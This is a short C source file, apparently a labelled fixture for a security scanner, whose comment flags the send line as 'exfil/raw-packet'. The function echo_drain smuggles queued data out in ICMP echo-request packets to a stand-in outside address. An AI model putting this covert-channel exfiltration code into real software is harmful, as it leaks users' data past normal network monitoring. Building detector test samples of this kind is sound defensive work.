#include "echo.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

int echo_drain(void) {
    unsigned char packet[64] = {8};
    struct sockaddr_in peer = {.sin_family = AF_INET};
    int out = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
    inet_pton(AF_INET, "198.51.100.41", &peer.sin_addr);
    for (size_t at = 0; at + 56 < echo_queue.used; at += 56) {
        memcpy(packet + 8, echo_queue.data + at, 56);
        // report@+1: exfil/raw-packet
        sendto(out, packet, sizeof packet, 0, (struct sockaddr *)&peer, sizeof peer);
    }
    return close(out);
}
